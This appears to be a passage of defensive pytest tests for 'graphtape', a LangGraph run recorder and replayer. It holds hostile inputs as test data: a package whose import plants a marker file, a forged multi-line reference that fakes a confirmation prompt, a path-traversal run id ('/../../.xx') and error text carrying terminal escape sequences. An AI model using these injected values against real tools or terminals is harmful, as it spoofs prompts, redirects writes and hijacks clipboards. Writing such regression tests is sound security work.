    """A recorded reference ``evilpkg.inner:graph``: importing it runs ``evilpkg/__init__.py``
    first, so the question names that file too. A reference with line breaks cannot draw a
    forged question above the real one. Answered no: nothing runs."""
    marker = tmp_path / "pwned"
    (tmp_path / "evilpkg").mkdir()
    (tmp_path / "evilpkg" / "__init__.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    (tmp_path / "evilpkg" / "inner.py").write_text("graph = None\n")
    graphtape = str(Path(sys.executable).with_name("graphtape"))
    forged = "agent.py:graph\nLoading it runs that code. Load it? [y/N] y\n\n\nrun 1234 names its graph as safe.py:graph"
    for ref, expected in (("evilpkg.inner:graph", "evilpkg"), (forged, "⏎")):
        db = tmp_path / "g.db"
        with Recorder(db) as rec:
            rec.attach(_bump(), graph_ref=ref).invoke({"n": 1})
        code, shown = _in_a_terminal([graphtape, "--db", str(db), "replay", "last"], tmp_path, b"n\n")
        lines = shown.splitlines()
        # Asked (a file here), or refused before any question (no such file here): in one line.
        assert code != 0 and lines[0].startswith(("run ", "graphtape: error: run ")) and expected in lines[0], shown
        # No line the reference brought: each line starts as graphtape starts it.
        assert all(line.startswith(("run ", "Loading it runs that code. Load it? [y/N] n", "graphtape: error: ")) for line in lines if line.strip()), shown
        if ref.startswith("evilpkg"):
            assert str((tmp_path / "evilpkg" / "__init__.py").resolve()) in lines[0] and str((tmp_path / "evilpkg" / "inner.py").resolve()) in lines[0]
        db.unlink()
    assert not marker.exists()


async def test_the_save_prompt_offers_a_file_name_a_crafted_run_id_cannot_steer(tmp_path, monkeypatch):
    """The state is saved under ``graphtape-<run id>-step<N>.json`` by default: a crafted store's
    run id ``/../../.xx`` made that default a path into the folder above the project."""
    import sqlite3

    from graphtape.tui.app import build_app
    from graphtape.tui.demo import record_demo
    from graphtape.tui.screens.prompts import PathPrompt
    from graphtape.tui.screens.run import RunScreen

    db = tmp_path / "crafted.db"
    record_demo(str(db), "happy")
    conn = sqlite3.connect(db)
    old = conn.execute("SELECT id FROM runs").fetchone()[0]
    for table in ("runs", "steps", "calls", "run_facets"):
        conn.execute(f"UPDATE {table} SET {'id' if table == 'runs' else 'run_id'} = '/../../.xx' WHERE {'id' if table == 'runs' else 'run_id'} = ?", (old,))
    conn.commit()
    conn.close()
    project = tmp_path / "a" / "b"
    project.mkdir(parents=True)
    monkeypatch.chdir(project)
    app = build_app(str(db), "last")
    async with app.run_test(size=(120, 34)) as pilot:
        for _ in range(60):
            await pilot.pause(0.05)
            if isinstance(app.screen, RunScreen) and app.screen.payload is not None:
                break
        await pilot.press("s")
        await pilot.pause(0.2)
        assert isinstance(app.screen, PathPrompt)
        default = app.screen.default
        target = app.screen.target(default)
    assert target.parent == project and "/" not in default


_ERRING_AGENT = '''
from typing import TypedDict
from langchain_core.tools import tool
from langgraph.graph import END, START, StateGraph

class S(TypedDict):
    q: str

@tool
def boom(q: str) -> str:
    """Fail, with hostile text in the error."""
    raise ValueError("bad " + {hostile!r})

b = StateGraph(S)
b.add_node("n", lambda s: {{"q": boom.invoke({{"q": s["q"]}})}})
b.add_edge(START, "n")
b.add_edge("n", END)
graph = b.compile()
'''


async def test_a_recorded_error_a_replay_raises_again_reaches_the_screen_as_text(tmp_path, monkeypatch):
    """A replay answers a failed call with its recorded error; the graph raises it again, and the
    comparison said "The re-run failed: <the error>" with the recorded text as it was: an OSC 52
    in it set the user's clipboard. Every error a screen shows goes through ``printable``."""
    import importlib.util

    from textual.widgets import Input

    from graphtape.tui.app import build_app
    from graphtape.tui.screens.compare import CompareScreen
    from graphtape.tui.screens.run import RunScreen

    agent = tmp_path / "erring_agent.py"
    agent.write_text(_ERRING_AGENT.format(hostile=HOSTILE))
    spec = importlib.util.spec_from_file_location("erring_agent", agent)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    db = str(tmp_path / "erring.db")
    with Recorder(db, durability="sync") as rec:
        with pytest.raises(ValueError):
            rec.attach(module.graph).invoke({"q": "x"})
    monkeypatch.chdir(tmp_path)
    app = build_app(db, "last")
    async with app.run_test(size=(160, 40)) as pilot:
        for _ in range(60):
            await pilot.pause(0.05)
            if isinstance(app.screen, RunScreen) and app.screen.payload is not None:
                break
        await pilot.press("r")
        await pilot.pause(0.2)
        box = app.screen.query_one("#graph-input", Input)
        box.value = f"{agent}:graph"  # the user's own reference: loaded at once
        box.focus()
        await pilot.press("enter")
        for _ in range(100):
            await pilot.pause(0.05)
            if isinstance(app.screen, CompareScreen):
                break
        await pilot.pause(0.3)
        assert isinstance(app.screen, CompareScreen)
        strips = app.screen._compositor.render_strips()
        text = "\n".join("".join(seg.text for seg in strip) for strip in strips)
        assert "The re-run failed: ValueError: bad" in text
        assert not _UNSAFE.search(text), sorted(set(_UNSAFE.findall(text)))
        assert not any(seg.style is not None and seg.style.link for strip in strips for seg in strip)
